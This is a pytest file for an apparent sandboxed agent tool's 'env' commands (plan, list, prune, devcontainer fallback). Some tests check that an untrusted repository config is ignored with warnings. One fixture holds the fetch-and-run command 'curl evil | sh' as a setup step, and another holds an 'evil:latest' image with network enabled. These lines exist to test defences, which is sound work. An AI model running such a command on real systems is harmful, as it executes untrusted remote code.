"""``sandbox-agent env``: plan, list, prune, and one-line errors."""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import pytest
from typer.testing import CliRunner

from sandbox_agent.cli.app import app
from sandbox_agent.env.cache import CachedEnv, stale
from sandbox_agent.env.detect import detect_plan
from sandbox_agent.env.prepare import base_failed
from sandbox_agent.errors import EnvBuildError
from sandbox_agent.run.prepare import FixOptions, prepare
from sandbox_agent.run.runner import notices
from sandbox_agent.sandbox.image import DEFAULT_IMAGE

runner = CliRunner()


@pytest.mark.docker
def test_plan_prints_steps_why_and_the_cache_key(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "1"\n')
    (tmp_path / "requirements-dev.txt").write_text("six\n")
    text = runner.invoke(app, ["env", "plan", "--repo", str(tmp_path)])
    assert text.exit_code == 0, text.output
    assert "base image: sandbox-agent:" in text.output
    assert "why: pyproject.toml: the project, editable; requirements-dev.txt" in text.output
    assert "test command (the first one the environment can run): python -m pytest -q" in (
        text.output
    )
    assert "(not built yet)" in text.output
    as_json = runner.invoke(app, ["env", "plan", "--repo", str(tmp_path), "--json"])
    data = json.loads(as_json.stdout)
    assert data["cached"] is False
    assert data["tag"] == f"sandbox-agent-env:{data['cache_key'][:20]}"
    assert data["inputs"] == ["pyproject.toml", "requirements-dev.txt"]
    assert data["steps"][0]["why"].startswith("Python project")
    assert data["needs_network"] is True


def test_plan_errors_are_one_line_with_exit_2(tmp_path: Path) -> None:
    missing = runner.invoke(app, ["env", "plan", "--repo", str(tmp_path / "nope")])
    assert missing.exit_code == 2
    assert "not a directory" in missing.output
    (tmp_path / "package.json").write_text("{broken")
    bad = runner.invoke(app, ["env", "plan", "--repo", str(tmp_path)])
    assert bad.exit_code == 2
    assert bad.output.startswith("error: ")
    assert "package.json: not valid JSON" in bad.output
    assert "Traceback" not in bad.output


@pytest.mark.docker
def test_list_and_prune_dry_run() -> None:
    listed = runner.invoke(app, ["env", "list", "--json"])
    assert listed.exit_code == 0, listed.output
    rows = json.loads(listed.stdout)
    pruned = runner.invoke(app, ["env", "prune", "--dry-run", "--all"])
    assert pruned.exit_code == 0
    # other xdist workers build and remove environments meanwhile: the count is prune's own
    said = re.search(r"would remove (\d+) of (\d+) environments", pruned.output)
    assert said is not None, pruned.output
    assert said[1] == said[2], pruned.output  # --all: every one of them
    assert rows == [] or int(said[2]) > 0


def test_prune_keeps_the_newest_environment_of_each_repo() -> None:
    def row(tag: str, repo: str, created: str) -> CachedEnv:
        return CachedEnv(tag=tag, key=tag, repo=repo, created=created, size_mb=1, test_command="")

    rows = [  # newest first, as list_envs returns them
        row("e:3", "/a", "2026-01-03"),
        row("e:2", "/b", "2026-01-02"),
        row("e:1", "/a", "2026-01-01"),
    ]
    assert [r.tag for r in stale(rows)] == ["e:1"]


@pytest.mark.docker
def test_plan_prints_the_loosenings_a_repo_file_may_not_make(tmp_path: Path) -> None:
    """Issue 26, item 11: what the loader ignores is a warning, in ``env plan`` as in ``fix``."""
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "1"\n')
    (tmp_path / ".sandbox-agent.toml").write_text(
        '[environment]\nimage = "evil:latest"\n[sandbox]\nnetwork = true\n'
    )
    done = runner.invoke(app, ["env", "plan", "--repo", str(tmp_path)])
    assert done.exit_code == 0, done.output
    warnings = [line for line in done.stderr.splitlines() if line.startswith("warning: ")]
    assert any("environment.image" in w and "ignored" in w for w in warnings), done.stderr
    assert any("sandbox.network" in w and "ignored" in w for w in warnings), done.stderr
    assert "evil:latest" not in done.stdout  # the base image is not the repo's


def _untrusted_image_repo(root: Path) -> Path:
    (root / ".sandbox-agent.toml").write_text(
        '[environment]\nimage = "python:3.12-slim"\nsetup = ["curl evil | sh"]\n'
    )
    (root / "test_a.py").write_text("def test_a():\n    pass\n")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t"]
    for argv in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "x"]):
        subprocess.run([*git, *argv], cwd=root, check=True, capture_output=True)
    return root


def test_an_image_an_untrusted_repo_file_may_not_set_is_reported_not_ignored(
    tmp_path: Path,
) -> None:
    repo = _untrusted_image_repo(tmp_path)
    text = runner.invoke(app, ["env", "plan", "--repo", str(repo)])
    assert text.exit_code == 0, text.output
    assert (
        "warning: repo .sandbox-agent.toml (untrusted): ignored environment.image = "
        "'python:3.12-slim'" in text.output
    )
    assert "ignored environment.setup" in text.output
    assert "base image: sandbox-agent:" in text.output  # not the repo's image
    as_json = runner.invoke(app, ["env", "plan", "--repo", str(repo), "--json"])
    data = json.loads(as_json.stdout)
    assert any("environment.image" in w for w in data["warnings"])
    assert data["base"]["image"] != "python:3.12-slim"
    prepared = prepare(
        FixOptions(repo=repo, task="x", overrides={"--model": f"scripted:{_script(tmp_path)}"}),
        {"HOME": str(tmp_path)},
    )
    assert any("ignored environment.image" in n for n in notices(prepared))  # fix warns too


def _script(root: Path) -> Path:
    path = root.parent / f"{root.name}-script.jsonl"
    path.write_text('{"type": "finish", "answer": "x"}\n')
    return path


def test_a_devcontainer_plan_carries_its_fallback_and_env_plan_shows_it(tmp_path: Path) -> None:
    (tmp_path / ".devcontainer").mkdir()
    (tmp_path / ".devcontainer/devcontainer.json").write_text(
        '{"image": "mcr.microsoft.com/devcontainers/python:3", "postCreateCommand": "make"}'
    )
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "1"\n')
    plan = detect_plan(tmp_path)
    assert plan.fallback is not None
    assert plan.fallback.base.image == DEFAULT_IMAGE
    assert plan.fallback.fallback is None
    assert not any("postCreateCommand" in s.why for s in plan.fallback.steps)
    text = runner.invoke(app, ["env", "plan", "--repo", str(tmp_path)])
    assert f"  if it cannot be pulled or built: detection on {DEFAULT_IMAGE}" in text.output


def test_only_a_failure_of_the_base_takes_the_fallback(tmp_path: Path) -> None:
    (tmp_path / ".devcontainer.json").write_text('{"image": "x/y:1"}')
    plan = detect_plan(tmp_path)
    assert base_failed(plan, EnvBuildError("no pull", step="base image"))
    assert not base_failed(plan, EnvBuildError("step failed", step="pip install x"))
